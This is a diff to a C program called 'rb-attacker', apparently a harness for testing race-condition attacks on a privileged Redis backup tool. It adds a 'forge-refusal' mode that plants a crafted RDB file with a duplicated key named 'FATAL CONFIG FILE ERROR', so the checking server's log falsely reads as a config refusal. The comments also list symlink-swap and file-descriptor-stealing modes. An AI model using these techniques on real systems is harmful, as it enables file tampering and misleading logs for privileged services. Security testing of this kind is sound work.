@@ -40,6 +40,12 @@
  *       folder of ours), rename it away and put a file of ours, holding
  *       FORGED, under its name, before root links it into place.
  *
+ *   forge-refusal READY DATA
+ *       When a work folder's aof/ is ours, put there the RDB name the private
+ *       server proving redis.conf starts on, holding a key twice whose name
+ *       is "FATAL CONFIG FILE ERROR": logged as it exits, as if the server
+ *       had refused its config.
+ *
  *   swap-dump READY DATA TARGET
  *       Each time Redis renames a fresh dump.rdb into place (IN_MOVED_TO),
  *       replace it at once (rename of a prepared symlink) with a symlink to
@@ -929,6 +935,51 @@ static int lease(char **a)
     return 0;
 }
 
+/*
+ * forge-refusal: the instant a work folder's aof/ is ours, put in it the RDB
+ * name the private server that proves redis.conf is started on, holding one
+ * key twice whose name is "FATAL CONFIG FILE ERROR": the server logs the key
+ * as it refuses the duplicate and exits, as if it had refused its config.
+ */
+static int forge_refusal(char **a)
+{
+    static const char key[] = "FATAL CONFIG FILE ERROR";
+    unsigned char rdb[256];
+    size_t n = 0;
+    memcpy(rdb, "REDIS0009\xfe\x00", 11);
+    n = 11;
+    for (int i = 0; i < 2; i++) {
+        rdb[n++] = 0;
+        rdb[n++] = sizeof key - 1;
+        memcpy(rdb + n, key, sizeof key - 1);
+        n += sizeof key - 1;
+        rdb[n++] = 1;
+        rdb[n++] = 'v';
+    }
+    rdb[n++] = 0xff;
+    memset(rdb + n, 0, 8);
+    n += 8;
+    in_dir(a[0]);
+    armed(a[-1]);
+    char work[PATH_MAX] = "";
+    for (;;) {
+        find_work(work, sizeof work);
+        if (!work[0])
+            continue;
+        char path[PATH_MAX + 64];
+        snprintf(path, sizeof path, "%s/aof/redis-backup-no-data.rdb", work);
+        int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);
+        if (fd < 0)
+            continue;
+        if (write(fd, rdb, n) != (ssize_t)n)
+            die("write the forged RDB");
+        close(fd);
+        say("planted %s", path);
+        idle_forever();
+    }
+    return 0;
+}
+
 /* ------------------------------------------------------------------------ */
 
 int main(int argc, char **argv)
@@ -952,6 +1003,7 @@ int main(int argc, char **argv)
         {"replant-dump", 1, replant_dump},
         {"steal-fds", 0, steal_fds},
         {"swap-temp", 1, swap_temp},
+        {"forge-refusal", 1, forge_refusal},
     };
     for (size_t i = 0; argc >= 3 && i < sizeof modes / sizeof modes[0]; i++) {
         if (strcmp(argv[1], modes[i].name) != 0)
@@ -963,6 +1015,6 @@ int main(int argc, char **argv)
         /* argv[2] is READY, found as a[-1] by the modes. */
         return modes[i].run(argv + 3);
     }
-    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump|aof-build|lease|replant-dump|steal-fds|swap-temp READY DATA_DIR ARGS...\n");
+    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump|aof-build|lease|replant-dump|steal-fds|swap-temp|forge-refusal READY DATA_DIR ARGS...\n");
     return 2;
 }
